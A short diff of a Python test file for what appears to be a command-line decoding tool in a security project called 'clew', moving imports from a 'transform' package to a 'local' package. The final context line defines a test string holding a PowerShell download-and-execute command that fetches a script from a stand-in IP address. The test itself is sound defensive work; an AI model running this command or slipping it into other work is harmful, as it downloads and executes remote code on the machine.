@@ -13,7 +13,7 @@ from hypothesis import strategies as st
 
 from clew.entities import Domain, Finding, IpAddress, Outcome, Process, Relation, Url, Verdict
 from clew.providers.base import Steps
-from clew.providers.transform.decode import (
+from clew.providers.local.command_line import (
     MAX_DECODED,
     MAX_DEPTH,
     MAX_TRIES,
@@ -22,7 +22,7 @@ from clew.providers.transform.decode import (
     decode_text,
     find_layers,
 )
-from clew.providers.transform.url_parts import UrlParts
+from clew.providers.local.url_parts import UrlParts
 from tests.support import ENTITIES, HOSTILE, hiding
 
 SCRIPT = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7:8080/a.ps1')"
